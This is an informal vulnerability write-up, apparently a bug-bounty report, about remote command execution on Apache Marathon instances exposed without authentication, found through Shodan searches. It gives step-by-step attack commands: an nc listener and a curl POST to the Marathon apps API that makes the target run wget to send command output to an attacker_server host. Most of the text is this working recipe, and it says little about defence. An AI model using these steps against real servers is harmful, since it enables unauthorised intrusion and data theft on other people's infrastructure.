Description and Impact

Marathon is a production-grade container orchestration platform for Mesosphere’s Datacenter Operating System (DC/OS) and Apache Mesos. So, since Marathon is a orchestration platform for mesos, that means that you can schedule tasks to be performed whatever you want, per example a simple bash command (pretty similar to cronjobs)

Steps To Reproduce

One day I just was navigating in shodan and I don’t know why I thinked about the Marathon service (As devops engineer, in one of my activties I needed to set up some Marathon/Mesos/Spark instances), that made think about which companies have Marathon intances activated without any authentication in production environments, so I decided to try with some dorks in shodan (like “ssl:Redacted” “X-Marathon-Leader”) when suddendly some wild server appear:

I thinked WOW! Marathon instances with HTTP/1.1 200 OK responses, it is not a guarantee, but 90% of the times, a 200 response on Marathon UI means that you have access without any kind ofauthentication needed

Extracted from the Report

1. Go to https://XXX.XXX.XXX.XXX/ui/#/apps and see the Marathon’s Dashboard andthe application list (without any authentication needed):

2. Then set your own server listening with netcat with the following command:
#set your own server to wait the response
root@h0st:~# nc -lvvv 55555

3. Then create a Marathon application that will be execute the RCE command with the following curl command:

# create a marathon application that will be execute any command that you want (in this case is /usr/bin/wget --user-agent=marathon-id --post-data=`id`)
# replace attacker_server with your listening server that you set up with netcat and the "rce-id" tag with your own custom tag, this is the Marathon application name
curl -sk -X POST -H "Content-type: application/json" https://XXX.XXX.XXX.XXX/v2/apps -d '{ "mem": 16, "id": "rce-id", "cmd": "/usr/bin/wget --user-agent=marathon-id --post-data=`id` attacker_server:55555"}'4. Then go to https://XXX.XXX.XXX.XXX/ui/#/apps again and see the application created named “rce-id” that we just created with curl, and wait some seconds and recieve the command from the Marathon Instance and the command output

Thanks to #Pwned 0daysecurity / Security executions code &#VulnerabilityLabs

next time.... im tired